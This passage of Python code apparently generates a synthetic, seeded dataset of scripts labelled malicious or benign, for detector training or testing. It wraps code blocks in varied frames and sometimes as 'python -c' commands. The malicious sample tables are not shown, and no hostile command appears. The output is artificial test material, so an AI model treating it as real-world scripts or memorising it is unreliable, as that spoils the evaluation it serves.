    if frame in ("plain", "notebook"):
        body = [line for block in blocks for line in block + ([""] if rng.random() < 0.5 else [])]
    elif frame == "functions":
        names = [f"{rng.choice(['step', 'do', 'run', 'setup', 'task'])}_{rng.choice(oneliners.WORDS)}{i}" for i in range(len(blocks))]
        body = [line for name, block in zip(names, blocks) for line in [f"def {name}():"] + indented(block) + ["", ""]]
        body += [f"{name}()" for name in names]
    elif frame == "guard":
        body = ["def main():"] + indented([line for block in blocks for line in block]) + ["", "", "if __name__ == '__main__':", "    main()"]
    elif frame == "log":
        lines.append("import logging")
        body = ["log = logging.getLogger(__name__)", ""]
        for i, block in enumerate(blocks):
            body += [f"log.info('step {i}')", "try:"] + indented(block) + ["except Exception as error:", rng.choice(["    log.error(error)", "    pass", "    raise"])]
    else:
        lines.append("import argparse")
        body = ["parser = argparse.ArgumentParser()", "parser.add_argument('--verbose', action='store_true')", "options = parser.parse_args()"]
        body += [line for block in blocks for line in block]
    return "\n".join(head + lines + [""] + body).rstrip() + "\n"


def as_command(imports, block, rng):
    """What `python -c` is handed, at times with the command around it."""
    nested = any(line.startswith(" ") for line in block)
    text = ("\n" if nested else rng.choice(["; ", ";", "\n"])).join(["import " + ", ".join(sorted(imports))] + block)
    return f"{rng.choice(['python', 'python3'])} -c {shlex.quote(text)}\n" if rng.random() < 0.4 else text + "\n"


def made(count):
    """So many scripts of each label: (text, malicious, row), the row being the first block that decides."""
    rng = random.Random("chores")
    result = []
    for malicious in (True, False):
        table = MALICIOUS if malicious else BENIGN
        for number in range(count):
            row = number % len(table)
            # An attacker's script does ordinary things as well.
            command = rng.random() < COMMANDS
            rows = [table[row]] + rng.sample(BENIGN, 0 if command else rng.randrange(0, 4))
            rng.shuffle(rows)
            values, imports, blocks = {}, set(), []
            for names, *lines in rows:
                imports |= set(names.split())
                own = {name: value for name, value in values.items() if name in ("word", "tool")}
                blocks.append([filled(line, rng, own) for line in lines])
                values.update((name, own[name]) for name in ("word", "tool") if name in own)
            text = as_command(imports, blocks[0], rng) if command else in_frame(imports, blocks, rng, values)
            result.append((text, malicious, row))
    return result
